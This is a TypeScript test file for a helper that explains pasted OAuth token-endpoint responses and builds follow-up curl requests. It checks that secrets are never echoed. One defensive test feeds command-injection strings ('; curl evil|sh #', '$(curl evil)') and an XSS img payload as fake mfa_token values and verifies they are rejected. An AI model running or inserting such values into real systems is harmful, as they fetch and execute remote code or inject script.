import { apiErrors, tokenEndpointErrorCodes } from '@particle-grants/reference'
import { describe, expect, it } from 'vitest'
import { examples } from './examples.ts'
import { explainPasted } from './explain-pasted.ts'

const secrets = {
  access_token: 'd3adbeefd3adbeefd3adbeefd3adbeefd3adbeef',
  refresh_token: 'c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00',
  mfa_token: '7f27a026-30a6-4c3c-8863-562b84fd7213',
}

it.each(tokenEndpointErrorCodes)('%s alone is explained, with advice and a link', (code) => {
  const explained = explainPasted(code)
  expect(explained?.heading).toBe(code)
  expect(explained?.advice).not.toEqual([])
  expect(explained?.links.map(({ link }) => link)).toContain(`/errors#${code}`)
})

it('links a known description to its cause', () => {
  const explained = explainPasted('{"error":"invalid_grant","error_description":"Invalid refresh token"}')
  expect(explained?.links.map(({ link }) => link)).toEqual(['/errors#invalid_grant-refresh_token'])
})

describe.each([
  ['curl -i', 'HTTP/2 403 \r\ncontent-type: application/json\r\n\r\n'],
  [
    'curl -v',
    '* Connected\n> POST /oauth/token HTTP/1.1\n> \n< HTTP/1.1 403 Forbidden\n< Date: x\n< \n{ [154 bytes data]\n',
  ],
  ['curl -iL', 'HTTP/1.1 100 Continue\n\nHTTP/1.1 403 Forbidden\nserver: x\n\n'],
  ['a body alone', ''],
])('the output of %s', (_, head) => {
  it('is parsed', () => {
    const explained = explainPasted(`${head}{"mfa_token":"${secrets.mfa_token}","error":"mfa_required"}`)
    expect(explained?.heading).toMatch(/^mfa_required/)
    expect(explained?.links.map(({ link }) => link)).toContain('/grants/mfa-otp')
  })
})

it('repeats no secret, wherever it is', () => {
  const pasted = [
    JSON.stringify({ token_type: 'bearer', expires_in: 7_776_000, ...secrets }),
    JSON.stringify({ error: 'mfa_required', ...secrets }),
    JSON.stringify({ error: secrets.access_token, error_description: `Bad ${secrets.refresh_token}` }),
    JSON.stringify({
      error: 'invalid_grant',
      error_description: secrets.mfa_token,
      [secrets.access_token]: 1,
    }),
    `HTTP/1.1 502 Bad Gateway\n\n<html>${secrets.access_token}</html>`,
    secrets.access_token,
  ]
  for (const text of pasted) {
    const shown = JSON.stringify(explainPasted(text))
    for (const secret of Object.values(secrets)) expect(shown, text).not.toContain(secret)
  }
})

it('explains tokens as a success, and an error page as not a response of the token endpoint', () => {
  expect(explainPasted(`{"token_type":"bearer","access_token":"${secrets.access_token}"}`)?.heading).toBe('Tokens')
  expect(explainPasted('HTTP/1.1 502 Bad Gateway\n\n<html></html>')?.heading).toMatch(/Not a response/)
})

it('links an unknown code to the other errors, and returns undefined for an empty text', () => {
  expect(explainPasted('no_such_code')?.links).toEqual([{ text: 'Other errors', link: '/errors#other_error' }])
  expect(explainPasted(' \n ')).toBeUndefined()
})

it('explains any text, and never throws', () => {
  for (const text of ['null', '[]', '"x"', '{', 'HTTP/1.1 200', 'HTTP/1.1 200 OK\n\n', '\u0000', '{"error":{}}', '<']) {
    expect(explainPasted(text)?.heading, text).toBeTruthy()
  }
})

it.each(examples)('the example "$label" is explained', ({ text }) => {
  expect(explainPasted(text)?.meaning.length).toBeGreaterThan(0)
})

it.each([
  '<html><h1>502 Bad Gateway</h1></html>',
  'not json',
  'curl: (7) Failed to connect to api.particle.io port 443',
  '{"message":"Not Found"}',
  '[]',
])('guesses no status for %s', (text) => {
  const explained = explainPasted(text)
  expect(explained?.heading).toBe('Not a response of the token endpoint')
  expect(JSON.stringify(explained)).not.toMatch(/status \d/i)
  expect(explained?.advice.join()).toContain('curl -i')
})

it.each([
  '403',
  'HTTP 403',
  'HTTP/1.1 403 Forbidden',
  'status: 403',
  'curl: (22) The requested URL returned error: 403',
])('explains the status %s by the errors that have it', (text) => {
  const explained = explainPasted(text)
  expect(explained?.heading).toBe('Status 403')
  expect(explained?.links.map(({ link }) => link)).toEqual(
    expect.arrayContaining(['/errors#mfa_required', '/errors#sso_user']),
  )
})

it.each([
  ['urn:custom:mfa-token', /unsupported/, '/grants/mfa-otp'],
  ['grant_type=urn:custom:mfa-token', /unsupported/, '/grants/mfa-otp'],
  ['urn:custom:mfa-otp', /a grant type/, '/grants/mfa-otp'],
  ['client_credentials', /a grant type/, '/grants/client-credentials'],
  ['authorization_code', /unsupported/, '/grants/client-credentials'],
  ['urn:custom:sms', /not a grant type/, '/grants/'],
])('links the grant type %s to its page', (text, heading, link) => {
  const explained = explainPasted(text)
  expect(explained?.heading).toMatch(heading)
  expect(explained?.links[0]?.link).toBe(link)
})

it('explains an error of the libraries with its advice', () => {
  const explained = explainPasted('invalid_code')
  expect(explained?.meaning[0]).toContain('refused the code')
  expect(explained?.advice[0]).toContain('next code')
})

it('shows the next request after mfa_required, without the pasted token', () => {
  const explained = explainPasted(`{"mfa_token":"${secrets.mfa_token}","error":"mfa_required"}`)
  expect(explained?.nextRequest).toContain('grant_type=urn:custom:mfa-otp')
  expect(explained?.nextRequest).toContain('mfa_token=YOUR_MFA_TOKEN')
  expect(explained?.nextRequest).not.toContain(secrets.mfa_token)
})

it('makes the second request from a pasted 403, with its mfa_token only where it is wanted', () => {
  const token = 'aaaabbbb-cccc-dddd-eeee-ffff00001111'
  const explained = explainPasted(`{"mfa_token":"${token}","error":"mfa_required"}`)
  expect(explained?.filledRequest).toContain(`-d mfa_token=${token}`)
  const { filledRequest: _, ...shown } = explained ?? {}
  expect(JSON.stringify(shown)).not.toContain(token)
})

it.each([`'; curl evil|sh #`, '$(curl evil)', '<img src=x onerror=alert(1)>'])(
  'makes no request from what is no mfa_token: %s',
  (mfa_token) => {
    expect(explainPasted(JSON.stringify({ mfa_token, error: 'mfa_required' }))).not.toHaveProperty('filledRequest')
  },
)

it('asks the reader to insert an mfa_token of an unexpected form', () => {
  const explained = explainPasted('{"mfa_token":"abc-123","error":"mfa_required"}')
  expect(explained?.nextRequest).toContain('mfa_token=YOUR_MFA_TOKEN')
  expect(explained?.advice.join()).toContain('its form is unexpected')
})

it.each([
  ['invalid grant', '/errors#invalid_grant'],
  ['User credentials are invalid', '/errors#invalid_grant-credentials'],
  [`{'error': 'invalid_client'}`, '/errors#invalid_client'],
])('recognises %s', (text, link) => {
  expect(explainPasted(text)?.links[0]?.link).toBe(link)
})

it('names a status only if one was pasted', () => {
  const body = `{"mfa_token":"\u0001","error":"mfa_required"}`
  expect(explainPasted(body)?.meaning.join()).not.toMatch(/status \d/i)
  expect(explainPasted(`HTTP/1.1 403 Forbidden\n\n${body}`)?.meaning.join()).toContain('Status 403.')
})

it('has a next request for every error of the token endpoint and the API', () => {
  for (const code of [...tokenEndpointErrorCodes, ...Object.keys(apiErrors)])
    expect(explainPasted(code)?.nextRequest, code).toMatch(/^(?:curl https:|particle )/)
})
